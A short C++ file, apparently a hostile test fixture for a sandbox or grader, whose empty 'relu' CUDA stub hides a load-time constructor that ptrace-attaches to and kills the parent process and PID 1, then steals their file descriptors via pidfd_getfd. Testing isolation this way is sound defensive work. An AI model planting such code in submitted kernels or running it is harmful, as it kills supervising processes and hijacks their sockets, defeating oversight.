// Hostile: it attaches to its parent and to the first process, and takes their
// sockets.
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>

#include "common/relu.h"

__attribute__((constructor)) void trace() {
  for (const pid_t pid : {getppid(), 1}) {
    if (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0) {
      waitpid(pid, nullptr, 0);
      ptrace(PTRACE_KILL, pid, nullptr, nullptr);
    }
    const int process = syscall(SYS_pidfd_open, pid, 0);
    for (int file = 3; process >= 0 && file < 64; ++file)
      syscall(SYS_pidfd_getfd, process, file, 0);
  }
}

void relu(const float*, float*, int64_t, cudaStream_t) {}
